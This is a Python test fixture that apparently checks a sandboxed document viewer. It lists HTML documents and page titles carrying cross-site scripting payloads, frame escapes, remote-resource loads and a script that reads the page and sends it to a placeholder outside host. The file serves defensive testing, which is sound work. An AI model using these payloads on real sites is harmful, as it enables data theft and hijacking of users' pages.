"""Documents and titles that want more than to be read.

`{far}` stands for the address of a host that is not the study's. Whatever reaches it, whatever
runs, and whatever leaves the frame that documents are shown in is a failure.
"""

from __future__ import annotations

#: what an attack that runs does to the page around it, or to its own
MARK = "parent.document.title='owned'"

DOCUMENTS: dict[str, str] = {
    "script": f"<p>words</p><script>{MARK}</script>",
    "script of another host": '<script src="{far}/a.js"></script>',
    "module": '<script type="module">import "{far}/a.js"</script>',
    "image that fails": f'<img src="/none.png" onerror="{MARK}">',
    "vector image that loads": f'<svg onload="{MARK}"></svg>',
    "script in a vector image": f"<svg><script>{MARK}</script></svg>",
    "frame with a script": f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    "frame of another host": '<iframe src="{far}/frame"></iframe>',
    "frame of javascript": f'<iframe src="javascript:parent.{MARK}"></iframe>',
    "details that open": f'<details open ontoggle="{MARK}"><summary>x</summary>y</details>',
    "body that loads": f'<body onload="{MARK}">x</body>',
    "image of another host": '<img src="{far}/pixel.gif">',
    "image set": '<img srcset="{far}/a.gif 1x, {far}/b.gif 2x">',
    "picture": '<picture><source srcset="{far}/p.gif"><img src="{far}/q.gif"></picture>',
    "style of another host": '<link rel="stylesheet" href="{far}/a.css">',
    "style that imports": '<style>@import "{far}/b.css";</style>',
    "background": '<div style="background:url({far}/c.gif);height:9px">x</div>',
    "font": "<style>@font-face{font-family:f;src:url({far}/f.woff)}p{font-family:f}</style>"
    "<p>x</p>",
    "refresh": '<meta http-equiv="refresh" content="0;url={far}/refresh">',
    "refresh in large letters": '<META HTTP-EQUIV=REFRESH CONTENT="0; URL={far}/refresh2">',
    "refresh of the page around": '<meta http-equiv="refresh" content="0;url=/organiser">',
    "preconnect": '<link rel="preconnect" href="{far}">'
    '<link rel=preload as=image href="{far}/pl.gif">',
    "prefetch": '<link rel="prefetch" href="{far}/next"><link rel=icon href="{far}/favicon.ico">',
    "base": '<base href="{far}/"><img src="relative.gif">',
    "object": '<object data="{far}/o.html" type="text/html"></object>',
    "embedded": '<embed src="{far}/e.html" type="text/html">',
    "sound and pictures": '<video src="{far}/v.mp4" poster="{far}/v.gif" autoplay></video>'
    '<audio src="{far}/a.mp3" autoplay></audio>',
    "form that sends itself": '<form id=f action="{far}/form"><input name=a></form>'
    "<script>document.getElementById('f').submit()</script>",
    "way out of its frame": "<script>top.location='{far}/top'</script>",
    "new window": "<script>window.open('{far}/popup')</script>",
    "storage of the study": "<script>parent.localStorage.clear();" + MARK + "</script>",
    "reading the study": "<script>fetch('/').then(r=>r.text())"
    ".then(t=>fetch('{far}/?'+encodeURIComponent(t).slice(0,500)))</script>",
    "message": "<script>parent.postMessage('owned','*');" + MARK + "</script>",
    "a tag that is not closed": f'<p>x</p><img src=/x onerror="{MARK}" <b>x',
    "a comment that is not closed": f"<!-- <p>--!><script>{MARK}</script>",
    "another namespace": '<math><annotation-xml encoding="text/html">'
    f'<img src=/x onerror="{MARK}"></annotation-xml></math>',
    "vector image of another host": '<svg><image href="{far}/s.gif"/>'
    '<use href="{far}/u.svg#a"/></svg>',
    "web socket": "<script>new WebSocket('{ws}/s')</script>",
    "worker": "<script>navigator.sendBeacon('{far}/beacon','x')</script>",
    "many elements": "<b>" * 5000 + '<img src="{far}/deep.gif">',
}

#: without scripts these would do nothing on any page, protected or not
TITLES: dict[str, str] = {
    "script": "<script>document.title='owned'</script>",
    "end of a title": "</title><script>document.title='owned'</script>",
    "image that fails": "<img src=x onerror=\"document.title='owned'\">",
    "double quote": '" onmouseover="document.title=\'owned\'"'
    " autofocus onfocus=\"document.title='owned'",
    "field": "<input autofocus onfocus=\"document.title='owned'\">",
    "end of a script": "</script><script>document.title='owned'</script>",
    "vector image": "<svg/onload=document.title='owned'>",
    "end of a comment": "--><script>document.title='owned'</script>",
    "end of a text area": "</textarea></style></noscript><script>document.title='owned'</script>",
    "template": "{{ 7 * 7 }}{% for x in [] %}<script>document.title='owned'</script>",
    "details": "<details open ontoggle=document.title='owned'>x",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
}
